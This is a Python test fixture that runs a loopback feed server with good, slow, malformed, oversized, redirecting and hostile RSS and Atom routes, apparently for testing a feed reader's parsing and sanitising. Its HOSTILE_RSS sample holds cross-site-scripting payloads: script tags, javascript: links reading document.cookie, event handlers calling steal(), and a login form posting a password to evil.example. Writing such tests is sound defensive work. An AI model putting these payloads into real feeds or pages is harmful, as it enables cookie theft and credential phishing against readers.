"""A feed site on 127.0.0.1 with the usual good, bad and hostile routes, on tests/http_server.py.

`feed_site()` starts it; the `feedserver` fixture in conftest.py hands it to a test, reset to
these routes. Add or replace routes with `site.add(path, Response(...) or handler)`;
`site.hits` lists every request as (path, lower-cased headers).
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler

from tests.http_server import Response, Site, http_server

GOOD_ETAG = '"good-v1"'
GOOD_LAST_MODIFIED = "Mon, 23 Nov 2026 10:00:00 GMT"
SLOW_SECONDS = 3.0  # longer than the 0.5 s timeout tests give the client
BIG_BYTES = 64 * 1024  # larger than the max_bytes tests use for /big

GOOD_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Loopback Daily</title><link>http://127.0.0.1/</link>
<item><title>First story</title><link>https://example.org/first</link><guid>good-1</guid>
<pubDate>Mon, 23 Nov 2026 08:00:00 GMT</pubDate>
<description>&lt;p&gt;Grid storage grew by eleven gigawatts in one year.&lt;/p&gt;</description></item>
<item><title>Second story</title><link>https://example.org/second</link><guid>good-2</guid>
<description>&lt;ul&gt;&lt;li&gt;One point&lt;/li&gt;&lt;li&gt;Another point&lt;/li&gt;&lt;/ul&gt;</description></item>
<item><title>Third story</title><link>/relative/third</link><guid>good-3</guid>
<description>Plain text with a &lt;a href="/about"&gt;relative link&lt;/a&gt;.</description></item>
</channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom Notes</title><id>urn:atom-notes</id>
<updated>2026-11-23T09:00:00+02:00</updated>
<entry><title>Atom entry</title><id>urn:atom-notes:1</id><link href="https://example.org/atom/1"/>
<updated>2026-11-23T09:00:00+02:00</updated>
<content type="html">&lt;h2&gt;Heading&lt;/h2&gt;&lt;p&gt;Body of the atom entry.&lt;/p&gt;</content></entry>
<entry><title>Summary only</title><id>urn:atom-notes:2</id><link href="https://example.org/atom/2"/>
<updated>2026-11-22T09:00:00Z</updated><summary>Just a summary.</summary></entry>
</feed>"""

HOSTILE_RSS = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile</title>
<item><title>&lt;script&gt;alert(1)&lt;/script&gt;Harmless &lt;b onmouseover="x()"&gt;title&lt;/b&gt;</title>
<link>javascript:alert(document.cookie)</link><guid>hostile-1</guid>
<description>&lt;p onclick="steal()"&gt;Read &lt;a href="javascript:alert(1)"&gt;this&lt;/a&gt; and
&lt;a href="JaVaScRiPt:alert(2)"&gt;that&lt;/a&gt;.&lt;/p&gt;&lt;script&gt;document.write('pwned')&lt;/script&gt;
&lt;img src="https://img.example/ok.png" onerror="steal()" alt="ok"&gt;
&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;&lt;svg onload="steal()"&gt;&lt;text&gt;svg text&lt;/text&gt;&lt;/svg&gt;
&lt;a href="data:text/html;base64,PHNjcmlwdD4="&gt;data&lt;/a&gt;&lt;style&gt;body{display:none}&lt;/style&gt;
&lt;form action="https://evil.example/"&gt;&lt;input name="pw"&gt;&lt;button&gt;Log in&lt;/button&gt;&lt;/form&gt;</description></item>
</channel></rss>"""

MALFORMED = b"\x00\x01 this is <not> a feed {at all ]] \xff\xfe"


def good_rss(handler: BaseHTTPRequestHandler) -> Response:
    """The good feed, or 304 when the client already has this version."""
    if handler.headers.get("If-None-Match") == GOOD_ETAG:
        return Response(304, headers={"ETag": GOOD_ETAG})
    headers = {"Content-Type": "application/rss+xml", "ETag": GOOD_ETAG, "Last-Modified": GOOD_LAST_MODIFIED}
    return Response(body=GOOD_RSS, headers=headers)


def add_feed_routes(site: Site) -> None:
    """The standard routes; a test may replace any of them."""
    site.add("/good.xml", good_rss)
    site.add("/atom.xml", Response(body=ATOM, headers={"Content-Type": "application/atom+xml"}))
    site.add("/error500", Response(500, b"internal error"))
    site.add("/slow", Response(body=GOOD_RSS, delay=SLOW_SECONDS))  # a server thread sleeps; others still answer
    site.add("/malformed", Response(body=MALFORMED, headers={"Content-Type": "application/rss+xml"}))
    site.add("/big", Response(body=b"<rss>" + b"x" * BIG_BYTES + b"</rss>"))
    site.add("/redirect", Response(302, headers={"Location": "/good.xml"}))
    site.add("/hostile.xml", Response(body=HOSTILE_RSS, headers={"Content-Type": "application/rss+xml"}))


def reset_feed_site(site: Site) -> None:
    """Back to the standard routes, with no requests recorded."""
    site.routes.clear()
    site.hits.clear()
    add_feed_routes(site)


@contextmanager
def feed_site() -> Iterator[Site]:
    """A running feed site on 127.0.0.1 (port chosen by the OS)."""
    with http_server() as site:
        add_feed_routes(site)
        yield site
